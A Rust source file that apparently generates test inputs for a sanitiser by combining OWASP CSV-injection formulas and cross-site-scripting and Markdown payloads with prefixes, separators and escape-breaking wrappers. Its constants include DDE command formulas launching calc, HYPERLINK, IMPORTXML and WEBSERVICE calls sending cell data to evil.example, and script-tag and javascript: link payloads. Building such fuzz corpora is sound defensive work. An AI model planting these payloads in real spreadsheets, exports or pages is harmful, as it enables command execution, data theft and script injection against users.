//! Texts that try to be more than texts: for spreadsheets the forms that OWASP
//! lists under CSV injection, for readers of Markdown and HTML those of its
//! sheet on cross-site scripting, and Markdown's own. Made by rule, each text
//! once.

use std::collections::BTreeSet;

/// At least so many are made.
pub(crate) const LEAST: usize = 5000;

const FORMULA_STARTS: [&str; 9] = [
    "=", "+", "-", "@", "\u{ff1d}", "\u{ff0b}", "\u{ff0d}", "\u{ff20}", "'=",
];

const FORMULAS: [&str; 10] = [
    "1+1",
    "cmd|' /C calc'!A0",
    "HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
    "SUM(1+9)*cmd|' /C notepad'!A0",
    "IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
    "WEBSERVICE(\"https://evil.example\")",
    "DDE(\"cmd\";\"/C calc\";\"x\")",
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    "10+20+cmd|' /C calc'!A0",
    "2+5+cmd|' /C calc'!A0",
];

/// What some programs pass over before they look at a cell.
const PREFIXES: [&str; 16] = [
    "", " ", "\t", "\r", "\n", "\r\n", "\u{a0}", "\u{feff}", "\u{200b}", "\u{1}", "\u{7f}",
    "\u{3000}", "\u{202e}", "\"", "'", "''",
];

/// What might end a cell and begin another.
const SEPARATORS: [&str; 9] = ["", ",", ";", "\t", "\",\"", "\";\"", "\r\n", "\n", "a|"];

const MARKUP: [&str; 44] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script xlink:href=data:,alert(1) /></svg>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<!-- comment -->",
    "<![CDATA[x]]>",
    "<?php echo 1 ?>",
    "<style>@import'http://evil.example';</style>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "&#x3c;img src=x&#x3e;",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](http://evil.example \"title\")",
    "![x](http://evil.example/pixel.png)",
    "[x][ref]\n\n[ref]: http://evil.example",
    "<http://evil.example>",
    "<javascript:alert(1)>",
    "<someone@evil.example>",
    "http://evil.example/path?q=1",
    "HTTPS://evil.example",
    "www.evil.example",
    "WWW.evil.example",
    "someone@evil.example",
    "mailto:someone@evil.example",
    "ftp://evil.example",
    "# Heading",
    "Heading\n=======",
    "Heading\n---",
    "- item\n- item",
    "1. item",
    "> quote",
    "    code",
    "```js\nalert(1)\n```",
    "~~~\ncode\n~~~",
    "`code` and ``more``",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "x[^1]\n\n[^1]: note",
    "$x^2$ and $$y$$ ~~gone~~ **bold** __bold__ *em* ==mark== [[wiki]]",
    "- [ ] task\n\n---\ntitle: x\n---",
];

/// What stands before and behind: to be at the beginning of a line, to come out
/// of quotation marks, brackets or code, to undo an escape.
const BEFORE: [&str; 16] = [
    "", " ", "\n", "\n\n", "\n\n    ", "\t", "text ", "text\\", "\"'>", "]", "`", "-->", "</b>",
    "\u{202e}", "**", "\n\n\n- ",
];

const BEHIND: [&str; 8] = ["", " text", "\\", "\n", "`", "\"", " <b>", "]()"];

/// The texts, in a stated order.
pub(crate) fn payloads() -> Vec<String> {
    let mut all = BTreeSet::new();
    for start in FORMULA_STARTS {
        for formula in FORMULAS {
            for prefix in PREFIXES {
                all.insert(format!("{prefix}{start}{formula}"));
            }
            for separator in SEPARATORS {
                all.insert(format!("{separator}{start}{formula}"));
                all.insert(format!("harmless{separator}{start}{formula}"));
            }
        }
    }
    for markup in MARKUP {
        for before in BEFORE {
            for behind in BEHIND {
                all.insert(format!("{before}{markup}{behind}"));
            }
        }
    }
    all.into_iter().collect()
}

#[test]
fn there_are_at_least_five_thousand() {
    assert!(payloads().len() >= LEAST, "{}", payloads().len());
}
